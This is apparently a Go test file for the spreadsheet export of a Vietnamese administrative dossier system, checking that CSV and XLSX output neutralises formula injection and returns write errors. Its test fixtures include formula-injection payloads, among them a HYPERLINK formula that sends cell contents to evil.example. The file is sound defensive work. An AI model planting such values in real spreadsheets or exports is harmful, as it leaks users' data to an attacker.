package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/motcua/motcua/internal/dossier"
)

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example","x")`: `'=HYPERLINK("http://evil.example","x")`,
		"+84912345678":                          "'+84912345678",
		"-2+3":                                  "'-2+3",
		"@SUM(A1)":                              "'@SUM(A1)",
		"\t=1":                                  "'\t=1",
		"\r=1":                                  "'\r=1",
		"Nguyễn Thị Lan":                        "Nguyễn Thị Lan",
		"a=b":                                   "a=b",
		"":                                      "",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func injected() []*dossier.Dossier {
	recv := time.Date(2025, 3, 3, 8, 0, 0, 0, vn)
	return []*dossier.Dossier{{
		Code:          "000.21.37.H56-250303-0001",
		ProcedureName: "@Đăng ký khai sinh",
		Applicant:     dossier.Applicant{FullName: `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`},
		ReceivedAt:    recv,
	}}
}

// TestDossiersCSVNeutralisesFormulas: defect 8, an applicant named
// =HYPERLINK(...) reaches the CSV as text a spreadsheet will not evaluate.
func TestDossiersCSVNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := DossiersCSV(&b, injected()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows, want header + 1", len(rows))
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q starts with a formula character", cell)
		}
	}
	if got := rows[1][2]; !strings.HasPrefix(got, `'=HYPERLINK(`) {
		t.Errorf("applicant cell = %q, want it prefixed with a quote", got)
	}
	if got := rows[1][5]; got != "03/03/2025" {
		t.Errorf("received cell = %q", got)
	}
}

// TestDossiersXLSXNeutralisesFormulas: the same in the workbook, where the
// cell must hold text, not a formula.
func TestDossiersXLSXNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := DossiersXLSX(&b, injected()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"B2", "C2"} {
		v, err := f.GetCellValue("Hồ sơ", cell)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(v, "'") {
			t.Errorf("%s = %q, want a leading quote", cell, v)
		}
		if formula, _ := f.GetCellFormula("Hồ sơ", cell); formula != "" {
			t.Errorf("%s holds a formula %q", cell, formula)
		}
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// TestWriteErrorsAreReturned: an error of the writer (or of excelize) is
// returned, not dropped.
func TestWriteErrorsAreReturned(t *testing.T) {
	if err := DossiersXLSX(failingWriter{}, injected()); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("XLSX to a failing writer: %v", err)
	}
	if err := DossiersCSV(failingWriter{}, injected()); err == nil {
		t.Error("CSV to a failing writer: no error")
	}
	bk := &book{f: excelize.NewFile()}
	bk.set("Sheet1", "not a cell", "x")
	bk.set("Sheet1", "A1", "y")
	if err := bk.write(&bytes.Buffer{}); err == nil {
		t.Error("an excelize error (bad cell name) was dropped")
	}
}
